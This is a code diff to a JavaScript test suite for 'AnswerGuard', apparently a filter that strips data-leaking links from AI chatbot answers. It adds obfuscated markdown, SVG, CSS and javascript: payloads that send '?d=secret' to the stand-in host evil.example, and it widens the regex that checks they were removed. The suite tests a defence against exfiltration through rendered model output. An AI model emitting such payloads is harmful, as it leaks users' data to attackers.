@@ -33,6 +33,16 @@ describe("AnswerGuard", () => {
     "![x](&#104;ttps://evil.example/?d=secret)",
     "![x](https:&#47;&#47;evil.example/?d=secret)",
     "![x][1]\n\n[1]: https://evil.example/?d=secret",
+    "[x][1]\n\n[1]: https\\://evil.example/?d=secret",
+    "[x][1]\n\n[1]: https:\\/\\/evil.example/?d=secret",
+    "[x][1]\n\n[1]: https&colon;//evil.example/?d=secret",
+    "[x][1]\n\n[1]: https:&#47;&#x2F;evil.example/?d=secret",
+    "[x][1]\n\n[1]: http&#115;://evil.example/?d=secret",
+    "[x][1]\n\n[1]: &sol;/evil.example/?d=secret",
+    "[x][1]\n\n[1]: /\\/evil.example/?d=secret",
+    "[x][1]\n\n[1]: java&#115;cript:fetch('//evil.example/?d=1')",
+    "<svg><image href='//evil.example/?d=secret'/></svg>",
+    "<p style='background:url(//evil.example/?d=secret)'>x</p>",
     "[click](https://evil.example/?d=secret)",
     "[click](javascript:fetch('https://evil.example'))",
     "[click](data:text/html;base64,PHNjcmlwdD4=)",
@@ -50,7 +60,7 @@ describe("AnswerGuard", () => {
       const guard = new AnswerGuard(KNOWN, { redactPii: false });
       const answer = guard.push(`Before. ${attack} After.`) + guard.flush();
       assert.ok(answer.startsWith("Before. ") && answer.endsWith(" After."), answer);
-      assert.doesNotMatch(answer, /!\[|evil\.example\/?\?|:\/\/evil|\/\/evil|<i|javascript:|data:text/i);
+      assert.doesNotMatch(answer, /!\[|evil\.example\/?\?|:\/\/evil|\/\/evil|<i|<s|javascript:|data:text/i);
       assert.equal(guard.hasRemoved, true);
     });
 
